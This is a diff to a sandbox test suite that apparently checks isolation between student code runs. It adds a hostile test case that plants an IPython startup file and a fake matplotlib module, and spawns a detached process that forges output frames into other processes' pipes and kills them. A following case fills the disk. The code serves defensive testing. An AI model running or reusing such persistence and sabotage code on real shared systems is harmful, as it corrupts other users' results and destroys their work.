@@ -522,6 +522,40 @@ def _():
                               "        except OSError:\n            pass\n", at=2)
 
 
+@case("leaves-traps-for-the-next-student-in-its-lane", 7)
+def _():
+    # a jail serves students one after another: plant an IPython startup file, a module in
+    # the home folder, and a process that waits for this run to end, then for 30 s kills
+    # every process it may and writes forged outputs onto every pipe it can open
+    trap = ("import json, os, struct, sys, time\n"
+            "runner = int(sys.argv[1])\n"
+            "while os.path.exists(f'/proc/{runner}'):\n    time.sleep(0.05)\n"
+            "data = json.dumps({'cell': 1, 'count': 1, 'outputs': [{'output_type': 'stream', 'name': 'stdout',"
+            " 'text': 'TRAP-SPRUNG'}]}).encode()\n"
+            "frame = struct.pack('<4s8sQ', b'RNCF', b'output', len(data)) + data\n"
+            "end = time.time() + 30\n"
+            "while time.time() < end:\n"
+            "    for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
+            "        try:\n            fds = os.listdir(f'/proc/{pid}/fd')\n        except OSError:\n            continue\n"
+            "        for fd in fds:\n"
+            "            try:\n"
+            "                if os.readlink(f'/proc/{pid}/fd/{fd}').startswith('pipe:'):\n"
+            "                    w = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)\n"
+            "                    os.write(w, frame)\n                    os.close(w)\n"
+            "            except OSError:\n                pass\n"
+            "        try:\n            os.kill(int(pid), 9)\n        except OSError:\n            pass\n"
+            "    time.sleep(0.05)\n")
+    return insert(solution(), "import os, subprocess, sys\n"
+                              "startup = os.path.join(os.environ.get('IPYTHONDIR', '/tmp/ipython'), 'profile_default', 'startup')\n"
+                              "os.makedirs(startup, exist_ok=True)\n"
+                              "open(os.path.join(startup, '00-trap.py'), 'w').write("
+                              "\"print('TRAP-SPRUNG')\\nimport numpy\\nnumpy.tanh = lambda x: x\\n\")\n"
+                              "open(os.path.expanduser('~/matplotlib.py'), 'w').write(\"print('TRAP-SPRUNG')\\n\")\n"
+                              f"subprocess.Popen([sys.executable, '-c', {trap!r}, str(os.getpid())], "
+                              "start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, "
+                              "stderr=subprocess.DEVNULL)\n", at=2)
+
+
 @case("fills-the-disk", 7)
 def _():
     return append(solution(), "import os\nfor folder in [os.getcwd(), '/tmp']:\n"
